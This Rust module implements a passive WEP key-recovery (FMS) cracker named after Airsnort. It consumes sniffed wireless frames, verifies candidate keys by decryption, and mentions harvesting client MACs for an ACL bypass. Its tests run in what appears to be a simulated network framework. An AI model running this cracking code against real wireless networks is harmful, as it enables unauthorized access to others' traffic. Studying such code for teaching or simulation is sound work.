//! Airsnort: passive WEP key recovery.
//!
//! Consumes a promiscuous capture ([`rogue_dot11::monitor::Sniffer`]) and
//! drives the FMS vote tables in `rogue-crypto`. The crack is *verified*
//! the way the original tool did it: the candidate key must successfully
//! decrypt (ICV-check) a captured frame before it is reported. The same
//! capture also yields the client MACs for the ACL bypass
//! ([`Sniffer::client_macs`]).

use rogue_crypto::fms::{KeyRecovery, Sample};
use rogue_crypto::wep::{self, WepKey};
use rogue_dot11::frame::FrameBody;
use rogue_dot11::monitor::Sniffer;

/// Passive cracker state.
#[derive(Default)]
pub struct Airsnort {
    recovery: KeyRecovery,
    /// A captured protected frame body kept for candidate verification.
    verify_body: Option<Vec<u8>>,
    /// Samples absorbed.
    pub samples: u64,
}

/// Result of a crack attempt.
#[derive(Clone, Debug, PartialEq)]
pub enum CrackOutcome {
    /// Key recovered and verified against a captured frame.
    Recovered(WepKey),
    /// The top-voted candidate failed verification (not enough samples).
    CandidateFailed {
        /// The rejected candidate bytes.
        candidate: Vec<u8>,
    },
    /// No protected traffic captured at all.
    NoTraffic,
}

impl Airsnort {
    /// Fresh cracker.
    pub fn new() -> Airsnort {
        Airsnort::default()
    }

    /// Absorb one raw FMS sample (IV + first keystream byte), e.g. from
    /// an offline oracle sweep.
    pub fn absorb_sample(&mut self, s: Sample) {
        self.samples += 1;
        self.recovery.absorb(s);
    }

    /// Absorb everything a sniffer captured since the last call.
    /// (Idempotent use: feed a fresh sniffer or feed once.)
    pub fn absorb_sniffer(&mut self, sniffer: &Sniffer) {
        for s in sniffer.wep_samples() {
            self.absorb_sample(s);
        }
        if self.verify_body.is_none() {
            self.verify_body = sniffer.captures.iter().find_map(|c| match &c.frame.body {
                FrameBody::Data { payload } if c.frame.protected => Some(payload.to_vec()),
                _ => None,
            });
        }
    }

    /// Attempt key recovery for a `key_len`-byte secret (5 or 13).
    pub fn crack(&self, key_len: usize) -> CrackOutcome {
        if self.recovery.is_empty() {
            return CrackOutcome::NoTraffic;
        }
        let result = self.recovery.crack(key_len);
        let candidate = WepKey::new(&result.key);
        match &self.verify_body {
            Some(body) if wep::open(&candidate, body).is_ok() => CrackOutcome::Recovered(candidate),
            Some(_) => CrackOutcome::CandidateFailed {
                candidate: result.key,
            },
            None => {
                // No full frame to verify against (oracle mode): report
                // the candidate as recovered — the caller verifies.
                CrackOutcome::Recovered(candidate)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;
    use rogue_crypto::fms::targeted_weak_ivs;
    use rogue_dot11::frame::{encode_llc, Frame};
    use rogue_dot11::MacAddr;
    use rogue_sim::SimTime;

    fn protected_frame(key: &WepKey, iv: [u8; 3], seq: u16) -> Bytes {
        let body = wep::seal(key, iv, 0, &encode_llc(0x0800, b"payload data"));
        let mut f = Frame::new(
            MacAddr::local(1),
            MacAddr::local(2),
            MacAddr::local(1),
            FrameBody::Data {
                payload: Bytes::from(body),
            },
        );
        f.to_ds = true;
        f.protected = true;
        f.seq = seq;
        f.encode()
    }

    #[test]
    fn cracks_key_from_sniffed_weak_iv_traffic() {
        let key = WepKey::new(b"KY#07");
        let mut sniffer = Sniffer::new();
        for (i, iv) in targeted_weak_ivs(5, 220).into_iter().enumerate() {
            sniffer.on_receive(
                SimTime::from_micros(i as u64 * 100),
                &protected_frame(&key, iv, (i % 4096) as u16),
                -48.0,
                1,
            );
        }
        let mut snort = Airsnort::new();
        snort.absorb_sniffer(&sniffer);
        match snort.crack(5) {
            CrackOutcome::Recovered(k) => assert_eq!(k.bytes(), key.bytes()),
            other => panic!("expected recovery, got {other:?}"),
        }
    }

    #[test]
    fn too_little_traffic_fails_verification() {
        let key = WepKey::new(b"KY#07");
        let mut sniffer = Sniffer::new();
        for (i, iv) in targeted_weak_ivs(5, 2).into_iter().enumerate() {
            sniffer.on_receive(
                SimTime::ZERO,
                &protected_frame(&key, iv, i as u16),
                -48.0,
                1,
            );
        }
        let mut snort = Airsnort::new();
        snort.absorb_sniffer(&sniffer);
        match snort.crack(5) {
            CrackOutcome::CandidateFailed { candidate } => {
                assert_ne!(&candidate, key.bytes(), "lucky guess would be miraculous");
            }
            CrackOutcome::Recovered(k) => {
                // Astronomically unlikely but not impossible; accept only
                // if genuinely correct.
                assert_eq!(k.bytes(), key.bytes());
            }
            CrackOutcome::NoTraffic => panic!("we fed traffic"),
        }
    }

    #[test]
    fn no_traffic_outcome() {
        let snort = Airsnort::new();
        assert_eq!(snort.crack(5), CrackOutcome::NoTraffic);
    }
}
